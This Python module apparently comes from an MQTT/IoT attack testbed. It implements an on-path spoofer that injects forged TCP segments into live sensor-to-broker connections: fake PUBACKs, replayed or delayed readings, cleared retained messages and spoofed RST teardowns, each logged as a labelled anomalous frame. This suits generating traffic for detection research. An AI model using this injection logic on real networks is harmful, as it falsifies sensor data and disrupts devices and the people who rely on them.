"""Spoofing: what the attacker says in one side's name, as the next bytes of a connection's stream."""

from coldaisle_contracts.addressing import BROKER, INJECTOR, Host
from coldaisle_contracts.errors import ColdaisleError
from coldaisle_contracts.journal_lines import FrameAct
from coldaisle_contracts.taxonomy import Role
from coldaisle_contracts.topics import client_id
from coldaisle_injector import mqtt
from coldaisle_injector.connection import Connection, Half
from coldaisle_injector.edits import Reading
from coldaisle_injector.notes import Notes
from coldaisle_injector.segments import RST
from coldaisle_injector.wire import Wire


class OffPathError(ColdaisleError):
    """The attacker is not where the plan needs it."""

    exit_code = 3

    def __init__(self, episode: str, unit: str, what: str) -> None:
        super().__init__(
            f"episode {episode}: the attacker {what} between {unit} and the broker; the run is void"
        )


class Spoofer:
    """Speaks for a unit to the broker, and for the broker to the unit.

    Args:
        unit: the victim.
        wire: the attacker's socket.
        notes: its journal.

    Attributes:
        connections: the connections that run through here, by the unit's port.
    """

    def __init__(self, unit: Host, wire: Wire, notes: Notes) -> None:
        self._unit, self._wire, self._notes = unit, wire, notes
        self.connections: dict[int, Connection] = {}
        self._held: dict[tuple[int, int], tuple[Connection, mqtt.Message]] = {}

    def off_path(self, what: str) -> OffPathError:
        """Return the error that says why the run is void."""
        return OffPathError(self._notes.episode, self._unit.name, what)

    def live(self, sensor: int) -> Connection:
        """Return the connection of a sensor, both sides of which were heard.

        Raises:
            OffPathError: if none runs through here.
        """
        for conn in self.connections.values():
            if conn.sensor == sensor and not conn.over and conn.up.last and conn.down.last:
                return conn
        raise self.off_path(f"has no connection of sensor {sensor}")

    # -- answers in the other side's place ----------------------------------------------------------------------

    def acknowledge(self, conn: Connection, mid: int) -> None:
        """Acknowledge a reading to the unit in the broker's place.

        Raises:
            OffPathError: if the broker was never heard on this connection.
        """
        if conn.down.last is None:
            raise self.off_path("never heard the broker")
        self._say(conn.down, conn.up, self._unit, mqtt.puback(mid), Role.INJECTED, "acknowledge")

    def receive(self, conn: Connection, mid: int) -> None:
        """Take the broker's PUBACK for something the unit never sent, in the unit's place."""
        conn.copies.remove(mid)
        self._say(conn.up, conn.down, BROKER, b"", Role.INJECTED, "acknowledge")

    # -- readings out of turn -----------------------------------------------------------------------------------

    def copy(self, slot: int, sensor: int, number: int) -> None:
        """Deliver a reading again.

        Args:
            slot: the reading's slot.
            sensor: its sensor.
            number: which copy it is, from 1.

        Raises:
            OffPathError: if that reading did not pass.
        """
        conn = self.live(sensor)
        if conn.publish[0] != slot:
            raise self.off_path(f"has no reading of sensor {sensor}, slot {slot} to copy")
        self._again(conn, conn.publish[1], (slot, sensor), number)

    def hold(self, conn: Connection, reading: Reading, message: mqtt.Message) -> None:
        """Keep a reading that was taken out of its stream."""
        self._held[reading.slot, reading.sensor] = conn, message

    def holds(self, slot: int, sensor: int) -> bool:
        """Tell whether a reading is held."""
        return (slot, sensor) in self._held

    def passed(self, slot: int, sensor: int) -> bool:
        """Tell whether a reading is the last of its sensor that went on to the broker."""
        return any(conn.sensor == sensor and conn.publish[0] == slot for conn in self.connections.values())

    def release(self, slot: int, sensor: int) -> None:
        """Deliver a reading that is held, with its own bytes.

        Raises:
            OffPathError: if it is not held, or its connection is gone.
        """
        conn, message = self._held.pop((slot, sensor), (None, None))
        if conn is None or message is None or conn.over or self.connections.get(conn.port) is not conn:
            raise self.off_path(f"has no reading of sensor {sensor}, slot {slot} to release")
        self._again(conn, message.data, (slot, sensor), 0)

    def _again(self, conn: Connection, data: bytes, what: tuple[int, int], number: int) -> None:
        """Deliver a reading out of turn; the broker's acknowledgement is for the attacker."""
        message = next(mqtt.messages(data))
        conn.copies.append(message.mid)
        role = Role.DUPLICATE if number else Role.DELAYED
        act: FrameAct = "copy" if number else "release"
        digest = self._say(conn.up, conn.down, BROKER, data, role, act)
        value = message.value.decode()
        self._notes.act(
            act,
            Reading(*what, value),
            port=conn.port,
            mid=message.mid,
            after=value,
            copy=number,
            digest=digest,
        )

    # -- other words --------------------------------------------------------------------------------------------

    def clear(self, sensor: int) -> None:
        """Clear a retained message: an empty one in its place, at QoS 0, in a sensor's stream."""
        conn = self.live(sensor)
        empty = mqtt.cleared(next(mqtt.messages(conn.publish[1])))
        self._say(conn.up, conn.down, BROKER, empty, Role.INJECTED, "clear")

    def reset(self, slot: int, sensor: int) -> None:
        """Break a sensor's connection: RST to both sides, in each other's name.

        Raises:
            OffPathError: if no connection of that sensor runs through here.
        """
        conn = self.live(sensor)
        for half, other, target in ((conn.up, conn.down, BROKER), (conn.down, conn.up, self._unit)):
            self._say(half, other, target, b"", Role.INJECTED, "reset", RST)
        conn.closed = True
        victim = client_id(self._unit.name, sensor)
        self._notes.act("reset", slot=slot, sensor=sensor, port=conn.port, client=victim)

    def _say(
        self, half: Half, other: Half, target: Host, data: bytes, role: Role, act: FrameAct, flags: int = 0
    ) -> str:
        """Say something as the next bytes of a stream; return the frame's digest."""
        macs = INJECTOR.mac, target.mac
        return self.send(half.speak(other, macs, self._notes.times.wall_ns(), data, flags), target, role, act)

    def send(self, frame: bytes, target: Host, role: Role, act: FrameAct) -> str:
        """Send a frame the attacker made, and return its digest."""
        self._notes.spend()
        self._wire.send(frame)
        return self._notes.frame(frame, target, role, act, anomalous=True)
